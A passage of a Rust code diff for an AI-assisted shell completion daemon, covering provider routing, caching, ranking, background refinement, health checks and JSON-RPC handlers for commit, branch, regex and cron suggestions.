-            },
-            None => HistoryListRequest {
-                cwd: None,
-                limit: 50,
-            },
+                None if chain.is_empty() => {
+                    debug!("No providers configured, returning empty completions");
+                    None
+                }
+                None => {
+                    self.try_chain(&chain, request, &context, start, &mut cloud)
+                        .await
+                }
+            }
+        };
+        let (answer, expired) = match deadline {
+            Some(deadline) => {
+                within_budget(providers, standby, request, &context, start, deadline).await
+            }
+            None => (providers.await, false),
+        };
+        let (items, provider_name) = answer.unwrap_or_else(|| (vec![], "none".to_string()));
+
+        let items = rejoin(items, &context);
+        let items = drop_unavailable(items, &context);
+        // Before caching, so blocked commands are only logged once
+        let mut items = enforce_policy(items, self.policy().as_deref(), &provider_name);
+        annotate_generated(&mut items, &provider_name, &params.cwd, &context);
+
+        if provider_name != "none" {
+            *self.last_provider.lock().await = Some(provider_name.clone());
+            self.events.publish(DaemonEvent::ProviderUsed {
+                provider: provider_name.clone(),
+            });
+        }
+
+        if let Some(degradation) = cloud.degradation() {
+            self.set_degradation(degradation).await;
+        }
+
+        let mut response = CompletionResponse {
+            items,
+            provider: provider_name,
+            latency_ms: start.elapsed().as_millis() as u64,
+            cached: false,
+            notice: None,
+            groups: vec![],
+            refreshing: false,
         };
 
+        // Cache the unfiltered response so clients with different limits
+        // share it; a superseded or late request's stand-in answer isn't
+        // worth it
+        if !superseded && !expired && !pinned {
+            let mut cache = self.cache.lock().await;
+            cache.put_typed(
+                slot.key,
+                slot.scope,
+                &slot.input,
+                &params.cwd,
+                Some(route_name(&decision)),
+                response.clone(),
+            );
+        }
+
+        let mut items = filter_items(response.items, &self.config().completion);
+        self.rerank(&mut items, params).await;
+        response.items = post_process(items, max_items, min_score);
+        self.acceptance.lock().await.shown(&response.items);
+        if shown && !pinned && response.provider != "none" {
+            self.spawn_shadow(request, &context, &response).await;
+        }
+        response.groups = assign_groups(&mut response.items);
+        response.notice = self.notice().await;
+        response
+    }
+
+    /// Rescore `items` with the `[ranking]` weights.
+    async fn rerank(&self, items: &mut [CompletionItem], params: &CompletionRequest) {
+        let weights = *self.ranking.lock().await;
+        if weights == RankingConfig::default() {
+            return;
+        }
         let history = self.history.lock().await;
-        let entries = history.list(params.cwd.as_deref(), params.limit);
-        let entries: Vec<_> = entries.into_iter().cloned().collect();
+        let recent = if ranking::uses_history(&weights) {
+            history.list_on_host(
+                self.remote_host(params.host.as_deref()),
+                None,
+                RANKING_HISTORY,
+            )
+        } else {
+            vec![]
+        };
+        let acceptance = self.acceptance.lock().await;
+        let sessions = self.sessions.lock().await;
+        let session = params.session_id.as_deref().and_then(|id| sessions.get(id));
+        ranking::rank(
+            items,
+            &weights,
+            &recent,
+            &params.cwd,
+            &acceptance,
+            session,
+            self.clock.unix_now(),
+        );
+    }
 
-        JsonRpcResponse::success(serde_json::to_value(&entries).unwrap(), request.id)
+    /// Replace the `[ranking]` weights, e.g. after the config file changed.
+    pub async fn set_ranking(&self, weights: RankingConfig) {
+        *self.ranking.lock().await = weights;
+    }
+
+    /// Empty-prompt suggestions: sequence predictions plus project state
+    /// (failed test runs in this directory, uncommitted changes).
+    async fn proactive_suggestions(&self, params: &CompletionRequest) -> Vec<CompletionItem> {
+        let predictions = self.predict_next(params).await;
+        let remote_host = self.remote_host(params.host.as_deref());
+        // The daemon can't inspect a remote host's working tree
+        let git = if remote_host.is_none() && self.config().context.git_enabled {
+            murmur_context::GitContext::new(&params.cwd)
+                .collect()
+                .await
+                .ok()
+        } else {
+            None
+        };
+        let recent: Vec<HistoryEntry> = self
+            .history
+            .lock()
+            .await
+            .list_on_host(remote_host, Some(&params.cwd), PROACTIVE_HISTORY)
+            .into_iter()
+            .cloned()
+            .collect();
+        proactive::suggestions(predictions, git.as_ref(), &recent)
+    }
+
+    /// Longer inputs worth pre-fetching after `input`, learned from the
+    /// history or else from the builtin table.
+    pub async fn predict_inputs(&self, input: &str) -> Vec<String> {
+        prefetch::predict(&*self.prefixes.lock().await, input)
+    }
+
+    /// Likely next commands for the shell that sent `params`, from the
+    /// sequence model and the last commands it ran.
+    pub async fn predict_next(&self, params: &CompletionRequest) -> Vec<Prediction> {
+        let recent = self.last_commands(params).await;
+        let recent: Vec<&str> = recent.iter().map(String::as_str).collect();
+        self.sequences.lock().await.predict(
+            &recent,
+            params
+                .max_items
+                .unwrap_or(self.config().completion.max_items),
+        )
+    }
+
+    /// The last two commands the requesting shell ran, oldest first: from
+    /// the request, else its session, else the local shell history file,
+    /// else what was recorded for the cwd (or remote host). A shell in a
+    /// session skips the history file, which other panes write to too.
+    async fn last_commands(&self, params: &CompletionRequest) -> Vec<String> {
+        let remote_host = self.remote_host(params.host.as_deref());
+        if !params.history.is_empty() {
+            let start = params.history.len().saturating_sub(2);
+            return params.history[start..].to_vec();
+        }
+        if let Some(ref id) = params.session_id {
+            let commands = self
+                .sessions
+                .lock()
+                .await
+                .get(id)
+                .map(|session| session.last_commands(2))
+                .unwrap_or_default();
+            if !commands.is_empty() {
+                return commands;
+            }
+        }
+        if remote_host.is_none() && params.session_id.is_none() {
+            let shell = params.shell.as_deref().unwrap_or("zsh");
+            if let Ok(lines) = murmur_context::HistoryCollector::new(shell)
+                .collect(2)
+                .await
+            {
+                if !lines.is_empty() {
+                    return lines;
+                }
+            }
+        }
+        let history = self.history.lock().await;
+        let mut commands: Vec<String> = match remote_host {
+            Some(host) => history.list_on_host(Some(host), None, 2),
+            None => history.list(Some(&params.cwd), 2),
+        }
+        .into_iter()
+        .map(|e| e.command.clone())
+        .collect();
+        commands.reverse();
+        commands
+    }
+
+    /// Context for an SSH session on `host`: the history the shell sent plus
+    /// commands recorded from that host, never this machine's shell history.
+    async fn remote_context(
+        &self,
+        host: &str,
+        params: &CompletionRequest,
+        shell: &str,
+    ) -> ShellContext {
+        let limit = self.config().context.history_lines;
+        let mut history = params.history.clone();
+        if history.len() < limit {
+            let recorded = self.history.lock().await;
+            // Stored newest first; context history is oldest first
+            let mut from_host: Vec<String> = recorded
+                .list_on_host(Some(host), None, limit - history.len())
+                .into_iter()
+                .map(|e| e.command.clone())
+                .collect();
+            from_host.reverse();
+            from_host.append(&mut history);
+            history = from_host;
+        }
+        murmur_context::remote_context(host, &params.cwd, shell, history)
+    }
+
+    /// Try `chain` the way `[routing] strategy` says.
+    async fn try_chain(
+        &self,
+        chain: &[Arc<dyn Provider>],
+        params: &CompletionRequest,
+        context: &ShellContext,
+        start: std::time::Instant,
+        cloud: &mut CloudOutcome,
+    ) -> Option<(Vec<CompletionItem>, String)> {
+        match self.config().routing.strategy {
+            RoutingStrategy::Failover => self.run_chain(chain, params, context, start, cloud).await,
+            RoutingStrategy::Race => self.run_race(chain, params, context, start, cloud).await,
+            RoutingStrategy::Merge => self.run_merge(chain, params, context, start, cloud).await,
+        }
+    }
+
+    /// Ask the first provider in `chain` and its merge partner at once and
+    /// merge their suggestions, then fall back to the rest in order if
+    /// neither answers. The name returned joins the providers that
+    /// answered with `+`.
+    async fn run_merge(
+        &self,
+        chain: &[Arc<dyn Provider>],
+        params: &CompletionRequest,
+        context: &ShellContext,
+        start: std::time::Instant,
+        cloud: &mut CloudOutcome,
+    ) -> Option<(Vec<CompletionItem>, String)> {
+        let Some(partner) = merge_partner(chain) else {
+            return self.run_chain(chain, params, context, start, cloud).await;
+        };
+        let (first, second) = (&chain[0], &chain[partner]);
+        let rest: Vec<_> = chain[1..]
+            .iter()
+            .filter(|p| p.name() != second.name())
+            .cloned()
+            .collect();
+        let rest = rest.as_slice();
+        if !self.spend_budget(first.as_ref()).await {
+            debug!(
+                provider = first.name(),
+                "Daily budget exhausted, skipping provider"
+            );
+            cloud.over_budget += 1;
+            return self
+                .run_chain(&chain[1..], params, context, start, cloud)
+                .await;
+        }
+        if !self.spend_budget(second.as_ref()).await {
+            debug!(
+                provider = second.name(),
+                "Daily budget exhausted, skipping provider"
+            );
+            cloud.over_budget += 1;
+            let result = first.complete(params, context).await;
+            if let Some(items) = settle(first.as_ref(), result, start, false, cloud) {
+                return Some((items, first.name().to_string()));
+            }
+            return self.run_chain(rest, params, context, start, cloud).await;
+        }
+
+        let (first_result, second_result) = tokio::join!(
+            latency::timed(first.complete(params, context)),
+            latency::timed(second.complete(params, context))
+        );
+        let mut lists = Vec::new();
+        let mut names = Vec::new();
+        for (provider, (result, elapsed)) in [(first, first_result), (second, second_result)] {
+            self.latency
+                .lock()
+                .await
+                .record(provider.name(), elapsed, result.is_ok());
+            if let Some(mut items) = settle(provider.as_ref(), result, start, false, cloud) {
+                for item in &mut items {
+                    item.metadata
+                        .provider
+                        .get_or_insert_with(|| provider.name().to_string());
+                }
+                lists.push(items);
+                names.push(provider.name());
+            }
+        }
+        if lists.is_empty() {
+            return self.run_chain(rest, params, context, start, cloud).await;
+        }
+        Some((merge::merge(lists), names.join("+")))
+    }
+
+    /// Race the first two providers in `chain` (see `hedge`), then fall
+    /// back to the rest in order if neither answers.
+    async fn run_race(
+        &self,
+        chain: &[Arc<dyn Provider>],
+        params: &CompletionRequest,
+        context: &ShellContext,
+        start: std::time::Instant,
+        cloud: &mut CloudOutcome,
+    ) -> Option<(Vec<CompletionItem>, String)> {
+        let [first, second, rest @ ..] = chain else {
+            return self.run_chain(chain, params, context, start, cloud).await;
+        };
+        if !self.spend_budget(first.as_ref()).await {
+            debug!(
+                provider = first.name(),
+                "Daily budget exhausted, skipping provider"
+            );
+            cloud.over_budget += 1;
+            return self
+                .run_chain(&chain[1..], params, context, start, cloud)
+                .await;
+        }
+
+        let mut second_over_budget = false;
+        let admit = async {
+            let admitted = self.spend_budget(second.as_ref()).await;
+            second_over_budget = !admitted;
+            admitted
+        };
+        let delay = std::time::Duration::from_millis(self.config().routing.hedge_delay_ms);
+        let attempts = hedge::race(
+            first.as_ref(),
+            second.as_ref(),
+            delay,
+            admit,
+            params,
+            context,
+        )
+        .await;
+        let raced = attempts.len() > 1 || attempts[0].0.name() == second.name();
+        for (provider, result) in attempts {
+            let is_fallback = provider.name() != first.name();
+            if let Some(items) = settle(provider, result, start, is_fallback, cloud) {
+                return Some((items, provider.name().to_string()));
+            }
+        }
+
+        // The second provider is next in line if it never ran
+        let rest = if raced || second_over_budget {
+            cloud.over_budget += usize::from(second_over_budget);
+            rest
+        } else {
+            &chain[1..]
+        };
+        self.run_chain(rest, params, context, start, cloud).await
+    }
+
+    /// Try each provider in order until one succeeds, noting in `cloud`
+    /// how the cloud providers fared.
+    /// Returns the items and the name of the provider that produced them.
+    async fn run_chain(
+        &self,
+        chain: &[Arc<dyn Provider>],
+        params: &CompletionRequest,
+        context: &ShellContext,
+        start: std::time::Instant,
+        cloud: &mut CloudOutcome,
+    ) -> Option<(Vec<CompletionItem>, String)> {
+        for (i, provider) in chain.iter().enumerate() {
+            let is_fallback = i > 0;
+            if is_fallback {
+                debug!(provider = provider.name(), "Trying fallback provider");
+            }
+            if !self.spend_budget(provider.as_ref()).await {
+                debug!(
+                    provider = provider.name(),
+                    "Daily budget exhausted, skipping provider"
+                );
+                cloud.over_budget += 1;
+                continue;
+            }
+
+            let (result, elapsed) = latency::timed(provider.complete(params, context)).await;
+            self.latency
+                .lock()
+                .await
+                .record(provider.name(), elapsed, result.is_ok());
+            if let Some(items) = settle(provider.as_ref(), result, start, is_fallback, cloud) {
+                return Some((items, provider.name().to_string()));
+            }
+        }
+        None
+    }
+
+    /// The configured latency budget for completions on `route`, if any.
+    fn latency_budget(&self, route: &RouteDecision) -> Option<std::time::Duration> {
+        let completion = &self.config().completion;
+        let ms = completion
+            .latency_budget_by_route
+            .get(route_name(route))
+            .copied()
+            .unwrap_or(completion.latency_budget_ms);
+        (ms > 0).then(|| std::time::Duration::from_millis(ms))
+    }
+
+    /// The (fast, strong) provider pair when tiered routing is enabled and
+    /// both configured providers are active.
+    fn tiered_pair(&self) -> Option<(Arc<dyn Provider>, Arc<dyn Provider>)> {
+        let routing = &self.config().routing;
+        if !routing.tiered || routing.fast_provider == routing.strong_provider {
+            return None;
+        }
+        let fast = self.providers().get(&routing.fast_provider)?;
+        let strong = self.providers().get(&routing.strong_provider)?;
+        Some((fast, strong))
+    }
+
+    /// Ask the shadow provider for the same completion in the background,
+    /// to be judged against `response` once a command runs.
+    async fn spawn_shadow(
+        &self,
+        params: &CompletionRequest,
+        context: &ShellContext,
+        response: &CompletionResponse,
+    ) {
+        let Some(trials) = self.shadow() else {
+            return;
+        };
+        let name = trials.lock().await.shadow().to_string();
+        if name == response.provider {
+            return;
+        }
+        let Some(provider) = self.providers().get(&name) else {
+            return;
+        };
+        if !self.spend_budget(provider.as_ref()).await {
+            debug!(provider = %name, "Budget spent, skipping shadow completion");
+            return;
+        }
+        let id = trials.lock().await.start(
+            self.clock.unix_now(),
+            &params.cwd,
+            &params.input,
+            &response.provider,
+            response
+                .items
+                .iter()
+                .map(|i| i.text.trim().to_string())
+                .collect(),
+            response.latency_ms,
+        );
+        let trials = trials.clone();
+        let params = params.clone();
+        let context = context.clone();
+        tokio::spawn(async move {
+            let start = std::time::Instant::now();
+            let result = provider
+                .complete(&params, &context)
+                .await
+                .map(|items| {
+                    rejoin(items, &context)
+                        .iter()
+                        .map(|i| i.text.trim().to_string())
+                        .collect()
+                })
+                .map_err(|e| e.to_string());
+            if let Err(ref e) = result {
+                debug!(provider = provider.name(), error = %e, "Shadow completion failed");
+            }
+            let latency_ms = start.elapsed().as_millis() as u64;
+            trials.lock().await.finish(id, result, latency_ms);
+        });
+    }
+
+    /// Judge the shadow trial settled by `command` running in `cwd`.
+    async fn shadow_ran(&self, command: &str, cwd: &str) {
+        let Some(trials) = self.shadow() else {
+            return;
+        };
+        let Some(evaluation) = trials.lock().await.ran(command, cwd, self.clock.unix_now()) else {
+            return;
+        };
+        debug!(accepted = ?evaluation.accepted, command = %evaluation.command, "Shadow evaluation");
+        let log = &self.config().routing.shadow_log;
+        let path = match log.strip_prefix("~/") {
+            Some(rest) => Path::new(&std::env::var("HOME").unwrap_or_default()).join(rest),
+            None => Path::new(log).to_path_buf(),
+        };
+        if let Err(e) = shadow::append(&path, &evaluation) {
+            warn!(path = %path.display(), error = %e, "Failed to write shadow evaluation");
+        }
+    }
+
+    /// Query the strong provider in the background and overwrite the cache
+    /// entry with its results, so the next request for this input is refined.
+    fn spawn_refinement(
+        &self,
+        provider: Arc<dyn Provider>,
+        slot: CacheSlot,
+        route: &'static str,
+        params: &CompletionRequest,
+        context: &ShellContext,
+    ) {
+        let cache = self.cache.clone();
+        let notifier = self.notifier();
+        let events = self.events.clone();
+        let policy = self.policy();
+        let params = params.clone();
+        let context = context.clone();
+        tokio::spawn(async move {
+            let start = std::time::Instant::now();
+            let result = provider.complete(&params, &context).await.map(|items| {
+                let items = rejoin(items, &context);
+                let items = drop_unavailable(items, &context);
+                enforce_policy(items, policy.as_deref(), provider.name())
+            });
+            match result {
+                Ok(mut items) if !items.is_empty() => {
+                    annotate_generated(&mut items, provider.name(), &params.cwd, &context);
+                    notifier.notify(
+                        NotifyKind::Refinement,
+                        start.elapsed(),
+                        "murmur: refined suggestion",
+                        &items[0].text,
+                    );
+                    let response = CompletionResponse {
+                        items,
+                        provider: provider.name().to_string(),
+                        latency_ms: start.elapsed().as_millis() as u64,
+                        cached: false,
+                        notice: None,
+                        groups: vec![],
+                        refreshing: false,
+                    };
+                    cache.lock().await.put_typed(
+                        slot.key,
+                        slot.scope,
+                        &slot.input,
+                        &params.cwd,
+                        Some(route),
+                        response.clone(),
+                    );
+                    debug!(
+                        provider = provider.name(),
+                        input = %params.input,
+                        "Refined completions cached"
+                    );
+                    events.publish(DaemonNotification::CompletionReady(CompletionReady {
+                        input: params.input,
+                        cwd: params.cwd,
+                        host: params.host,
+                        response,
+                    }));
+                }
+                Ok(_) => debug!(provider = provider.name(), "Refinement returned no items"),
+                Err(e) => warn!(provider = provider.name(), error = %e, "Refinement failed"),
+            }
+        });
+    }
+
+    /// Drop abandoned audio uploads, so their memory is freed even if no
+    /// other upload comes along. Called periodically by the server.
+    pub async fn expire_uploads(&self) {
+        let dropped = self.uploads.lock().await.expire(self.clock.now());
+        if dropped > 0 {
+            debug!(dropped, "Abandoned voice uploads expired");
+        }
+    }
+
+    /// Run every active provider's health check and keep the results for
+    /// `status`. Called periodically by the server.
+    pub async fn check_providers(&self) {
+        for name in self.providers().names() {
+            let Some(provider) = self.providers().get(name) else {
+                continue;
+            };
+            let (result, elapsed) = latency::timed(tokio::time::timeout(
+                health::CHECK_TIMEOUT,
+                provider.health_check(),
+            ))
+            .await;
+            let result = result.unwrap_or(Err(ProviderError::Timeout));
+            match &result {
+                Ok(()) => debug!(
+                    provider = name,
+                    elapsed_ms = elapsed.as_millis() as u64,
+                    "Provider healthy"
+                ),
+                Err(e) => warn!(provider = name, error = %e, "Provider health check failed"),
+            }
+            self.health
+                .lock()
+                .await
+                .record(name, result, elapsed, self.clock.unix_now());
+        }
+    }
+
+    /// Summarize sessions with enough new activity using the configured
+    /// summary provider. Called periodically by the server.
+    pub async fn summarize_sessions(&self) {
+        let ctx = &self.config().context;
+        let Some(provider) = self.providers().get(&ctx.summary_provider) else {
+            debug!(
+                provider = %ctx.summary_provider,
+                "Summary provider not active, skipping session summaries"
+            );
+            return;
+        };
+
+        let now = self.clock.unix_now();
+        let pending = {
+            let history = self.history.lock().await;
+            self.summaries.lock().await.pending(
+                &history,
+                now,
+                ctx.summary_window_secs,
+                ctx.summary_min_commands,
+            )
+        };
+
+        let system = assets::prompt("session-summary", summary::SUMMARY_SYSTEM_PROMPT);
+        for session in pending {
+            if !self.spend_budget(provider.as_ref()).await {
+                debug!("Daily budget exhausted, postponing session summaries");
+                break;
+            }
+            let prompt = summary::build_prompt(&session);
+            match provider.generate(&system, &prompt).await {
+                Ok(text) if !text.is_empty() => {
+                    debug!(session = %session.session, "Session summary updated");
+                    self.summaries.lock().await.update(&session, text, now);
+                }
+                Ok(_) => debug!(session = %session.session, "Empty session summary"),
+                Err(e) => {
+                    warn!(provider = provider.name(), error = %e, "Session summary failed");
+                }
+            }
+        }
+    }
+
+    async fn handle_query(&self, request: JsonRpcRequest) -> JsonRpcResponse {
+        let params: QueryRequest = match request.params {
+            Some(params) => match serde_json::from_value(params) {
+                Ok(p) => p,
+                Err(e) => {
+                    return JsonRpcResponse::error(
+                        INVALID_PARAMS,
+                        format!("Invalid query params: {e}"),
+                        request.id,
+                    )
+                }
+            },
+            None => {
+                return JsonRpcResponse::error(INVALID_PARAMS, "Missing query params", request.id)
+            }
+        };
+
+        let chain = self.providers().get_chain(&RouteDecision::Shell);
+        info!(query = %params.query, "Answering launcher query");
+        match query::run(&chain, self, &params).await {
+            Ok(mut response) => {
+                if let Some(policy) = self.policy() {
+                    let provider = &response.provider;
+                    response
+                        .items
+                        .retain(|item| policy.permit(&item.command, provider));
+                }
+                JsonRpcResponse::success(serde_json::to_value(&response).unwrap(), request.id)
+            }
+            Err(message) => JsonRpcResponse::error(INTERNAL_ERROR, message, request.id),
+        }
+    }
+
+    async fn handle_commit_suggest(&self, request: JsonRpcRequest) -> JsonRpcResponse {
+        let params: CommitSuggestRequest = match request.params {
+            Some(params) => match serde_json::from_value(params) {
+                Ok(p) => p,
+                Err(e) => {
+                    return JsonRpcResponse::error(
+                        INVALID_PARAMS,
+                        format!("Invalid commit/suggest params: {e}"),
+                        request.id,
+                    )
+                }
+            },
+            None => {
+                return JsonRpcResponse::error(
+                    INVALID_PARAMS,
+                    "Missing commit/suggest params",
+                    request.id,
+                )
+            }
+        };
+
+        let changes = match murmur_context::GitContext::new(&params.cwd)
+            .staged_changes(params.amend)
+            .await
+        {
+            Ok(changes) if changes.diff.is_empty() && !params.amend => {
+                return JsonRpcResponse::error(
+                    INVALID_PARAMS,
+                    "Nothing staged to commit",
+                    request.id,
+                )
+            }
+            Ok(changes) => changes,
+            Err(e) => return JsonRpcResponse::error(INVALID_PARAMS, e.to_string(), request.id),
+        };
+
+        let chain = self.providers().get_chain(&RouteDecision::Shell);
+
+        info!(
+            cwd = %params.cwd,
+            amend = params.amend,
+            diff_bytes = changes.diff.len(),
+            "Writing commit message"
+        );
+        match commit::run(&chain, self, &changes).await {
+            Ok(response) => {
+                JsonRpcResponse::success(serde_json::to_value(&response).unwrap(), request.id)
+            }
+            Err(message) => JsonRpcResponse::error(INTERNAL_ERROR, message, request.id),
+        }
+    }
+
+    async fn handle_branch_suggest(&self, request: JsonRpcRequest) -> JsonRpcResponse {
+        let params: BranchSuggestRequest = match request.params {
+            Some(params) => match serde_json::from_value(params) {
+                Ok(p) => p,
+                Err(e) => {
+                    return JsonRpcResponse::error(
+                        INVALID_PARAMS,
+                        format!("Invalid branch/suggest params: {e}"),
+                        request.id,
+                    )
+                }
+            },
+            None => {
+                return JsonRpcResponse::error(
+                    INVALID_PARAMS,
+                    "Missing branch/suggest params",
+                    request.id,
+                )
+            }
+        };
+
+        // Outside a repository there is nothing to clash with
+        let existing = match params.cwd.as_deref() {
+            Some(cwd) => murmur_context::GitContext::new(cwd)
+                .branches()
+                .await
+                .unwrap_or_default(),
+            None => Vec::new(),
+        };
+        let chain = self.providers().get_chain(&RouteDecision::Shell);
+
+        info!(description_len = params.description.len(), "Naming branch");
+        match branch::run(&chain, self, &self.config().branch, &params, &existing).await {
+            Ok(response) => {
+                JsonRpcResponse::success(serde_json::to_value(&response).unwrap(), request.id)
+            }
+            Err(message) => JsonRpcResponse::error(INVALID_PARAMS, message, request.id),
+        }
+    }
+
+    async fn handle_expr_suggest(&self, request: JsonRpcRequest) -> JsonRpcResponse {
+        let params: ExprSuggestRequest = match request.params {
+            Some(params) => match serde_json::from_value(params) {
+                Ok(p) => p,
+                Err(e) => {
+                    return JsonRpcResponse::error(
+                        INVALID_PARAMS,
+                        format!("Invalid expr/suggest params: {e}"),
+                        request.id,
+                    )
+                }
+            },
+            None => {
+                return JsonRpcResponse::error(
+                    INVALID_PARAMS,
+                    "Missing expr/suggest params",
+                    request.id,
+                )
+            }
+        };
+        if params.description.trim().is_empty() {
+            return JsonRpcResponse::error(
+                INVALID_PARAMS,
+                "Describe the transformation",
+                request.id,
+            );
+        }
+
+        let chain = self.providers().get_chain(&RouteDecision::Shell);
+
+        info!(
+            tool = params.tool.command(),
+            sample_bytes = params.sample.as_deref().map_or(0, str::len),
+            "Writing one-liner"
+        );
+        match expr::run(
+            &chain,
+            self,
+            params.tool,
+            &params.description,
+            params.sample.as_deref(),
+        )
+        .await
+        {
+            Ok(response) => {
+                JsonRpcResponse::success(serde_json::to_value(&response).unwrap(), request.id)
+            }
+            Err(message) => JsonRpcResponse::error(INTERNAL_ERROR, message, request.id),
+        }
+    }
+
+    async fn handle_regex_suggest(&self, request: JsonRpcRequest) -> JsonRpcResponse {
+        let params: RegexSuggestRequest = match request.params {
+            Some(params) => match serde_json::from_value(params) {
+                Ok(p) => p,
+                Err(e) => {
+                    return JsonRpcResponse::error(
+                        INVALID_PARAMS,
+                        format!("Invalid regex/suggest params: {e}"),
+                        request.id,
+                    )
+                }
+            },
+            None => {
+                return JsonRpcResponse::error(
+                    INVALID_PARAMS,
+                    "Missing regex/suggest params",
+                    request.id,
+                )
+            }
+        };
+        if params.description.trim().is_empty() {
+            return JsonRpcResponse::error(INVALID_PARAMS, "Describe what to match", request.id);
+        }
+
+        let chain = self.providers().get_chain(&RouteDecision::Shell);
+
+        info!(
+            sample_bytes = params.sample.as_deref().map_or(0, str::len),
+            "Writing regex"
+        );
+        match pattern::run(&chain, self, &params.description, params.sample.as_deref()).await {
+            Ok(response) => {
+                JsonRpcResponse::success(serde_json::to_value(&response).unwrap(), request.id)
+            }
+            Err(message) => JsonRpcResponse::error(INTERNAL_ERROR, message, request.id),
+        }
+    }
+
+    async fn handle_cron_suggest(&self, request: JsonRpcRequest) -> JsonRpcResponse {
+        let params: CronSuggestRequest = match request.params {
+            Some(params) => match serde_json::from_value(params) {
+                Ok(p) => p,
+                Err(e) => {
+                    return JsonRpcResponse::error(
+                        INVALID_PARAMS,
+                        format!("Invalid cron/suggest params: {e}"),
+                        request.id,
+                    )
+                }
+            },
+            None => {
+                return JsonRpcResponse::error(
+                    INVALID_PARAMS,
+                    "Missing cron/suggest params",
+                    request.id,
+                )
+            }
+        };
+        if params.description.trim().is_empty() {
+            return JsonRpcResponse::error(
+                INVALID_PARAMS,
+                "Describe when it should run",
+                request.id,
+            );
+        }
+
+        let chain = self.providers().get_chain(&RouteDecision::Shell);
+
+        info!(
+            description_len = params.description.len(),
+            "Writing cron schedule"
+        );
+        match cron::run(
+            &chain,
+            self,
+            &params.description,
+            params.command.as_deref(),
+            self.clock.unix_now(),
+        )
+        .await
+        {
+            Ok(response) => {
+                JsonRpcResponse::success(serde_json::to_value(&response).unwrap(), request.id)
+            }
+            Err(message) => JsonRpcResponse::error(INTERNAL_ERROR, message, request.id),
+        }
+    }
+
+    async fn handle_summarize_commits(&self, request: JsonRpcRequest) -> JsonRpcResponse {
+        let params: SummarizeCommitsRequest = match request.params {
+            Some(params) => match serde_json::from_value(params) {
+                Ok(p) => p,
+                Err(e) => {
+                    return JsonRpcResponse::error(
+                        INVALID_PARAMS,
+                        format!("Invalid summarize/commits params: {e}"),
+                        request.id,
+                    )
+                }
+            },
+            None => {
+                return JsonRpcResponse::error(
+                    INVALID_PARAMS,
+                    "Missing summarize/commits params",
+                    request.id,
+                )
+            }
+        };
+
+        let git = murmur_context::GitContext::new(&params.cwd);
+        let commits = match git.log(&params.range, draft::MAX_COMMITS).await {
+            Ok(commits) if commits.is_empty() => {
+                return JsonRpcResponse::error(
+                    INVALID_PARAMS,
+                    format!("No commits in {}", params.range),
+                    request.id,
+                )
+            }
+            Ok(commits) => commits,
+            Err(e) => return JsonRpcResponse::error(INVALID_PARAMS, e.to_string(), request.id),
+        };
+        let stat = git.range_stat(&params.range).await.unwrap_or_default();
+
+        let chain = self.providers().get_chain(&RouteDecision::Shell);
+
+        info!(
+            range = %params.range,
+            kind = ?params.kind,
+            commits = commits.len(),
+            "Drafting from commits"
+        );
+        match draft::run(&chain, self, params.kind, &params.range, &commits, &stat).await {
+            Ok(response) => {
+                JsonRpcResponse::success(serde_json::to_value(&response).unwrap(), request.id)
+            }
+            Err(message) => JsonRpcResponse::error(INTERNAL_ERROR, message, request.id),
+        }
+    }
+
+    /// Takes no locks, so a daemon busy with other requests still answers.
+    fn handle_ping(&self, request: JsonRpcRequest) -> JsonRpcResponse {
+        let ping = PingResponse {
+            pid: std::process::id(),
+            version: env!("CARGO_PKG_VERSION").to_string(),
+        };
+        JsonRpcResponse::success(serde_json::to_value(ping).unwrap(), request.id)
+    }
+
+    async fn handle_health(&self, request: JsonRpcRequest) -> JsonRpcResponse {
+        JsonRpcResponse::success(
+            serde_json::to_value(self.health().await).unwrap(),
+            request.id,
+        )
+    }
+
+    /// Liveness and readiness from what the daemon already knows: the
+    /// active providers and their latest health checks. Makes no provider
+    /// calls, so probes can run it often.
+    pub async fn health(&self) -> HealthResponse {
+        let mut reasons = Vec::new();
+        let providers = self.providers();
+        let active = providers.names();
+        if active.is_empty() {
+            reasons.push("no provider is active".to_string());
+        } else {
+            let checks = self.health.lock().await.snapshot();
+            let checked: Vec<_> = active.iter().filter_map(|name| checks.get(*name)).collect();
+            if checked.len() == active.len() && checked.iter().all(|check| !check.ok) {
+                reasons.push("every provider failed its last health check".to_string());
+            }
+        }
+        HealthResponse {
+            live: true,
+            ready: reasons.is_empty(),
+            reasons,
+            uptime_secs: self.started.elapsed().as_secs(),
+            version: env!("CARGO_PKG_VERSION").to_string(),
+        }
+    }
+
+    async fn handle_status(&self, request: JsonRpcRequest) -> JsonRpcResponse {
+        JsonRpcResponse::success(self.status().await, request.id)
+    }
+
+    async fn status(&self) -> Value {
+        let (cache_len, cache_bytes, cache_max_bytes, cache_ttl) = {
+            let cache = self.cache.lock().await;
+            (
+                cache.len(),
+                cache.bytes(),
+                cache.max_bytes(),
+                cache.ttl().clone(),
+            )
+        };
+        let secs = |ttls: &HashMap<String, std::time::Duration>| {
+            ttls.iter()
+                .map(|(name, ttl)| (name.clone(), ttl.as_secs()))
+                .collect::<std::collections::BTreeMap<_, _>>()
+        };
+        let history_len = self.history.lock().await.len();
+        let summary_count = self.summaries.lock().await.len();
+        let session_count = {
+            let mut sessions = self.sessions.lock().await;
+            sessions.expire(self.clock.unix_now());
+            sessions.len()
+        };
+        let (budget_used, budget_limit, budget_remaining) = {
+            let mut budget = self.budget.lock().await;
+            let now = self.clock.unix_now();
+            (
+                budget.used(now),
+                budget.daily_limit(),
+                budget.remaining(now),
+            )
+        };
+        let voice_status = self.voice().status();
+        let providers = self.providers();
+        let capabilities: std::collections::BTreeMap<_, _> = providers
+            .names()
+            .into_iter()
+            .filter_map(|name| providers.get(name))
+            .map(|p| (p.name().to_string(), p.capabilities()))
+            .collect();
+        serde_json::json!({
+            "status": "running",
+            "profile": Config::profile(),
+            "cache_entries": cache_len,
+            "cache_ttl_secs": cache_ttl.default.as_secs(),
+            "cache_ttl_by_kind": secs(&cache_ttl.by_kind),
+            "cache_ttl_by_provider": secs(&cache_ttl.by_provider),
+            "cache_ttl_by_route": secs(&cache_ttl.by_route),
+            "cache_bytes": cache_bytes,
+            "cache_max_bytes": cache_max_bytes,
+            "history_entries": history_len,
+            "session_summaries": summary_count,
+            "sessions": session_count,
+            "budget_remaining": budget_remaining,
+            "budget_used": budget_used,
+            "budget_limit": budget_limit,
+            "voice_enabled": self.config().voice.enabled,
+            "voice_engines": voice_status.available_engines,
+            "voice_active_engine": voice_status.active_engine,
+            "voice_sessions": self.voice_sessions.lock().unwrap().iter().flatten().collect::<Vec<_>>(),
+            "providers_configured": self.config().providers.keys().collect::<Vec<_>>(),
+            "providers_active": providers.names(),
+            "provider_capabilities": capabilities,
+            "restricted": self.policy().is_some(),
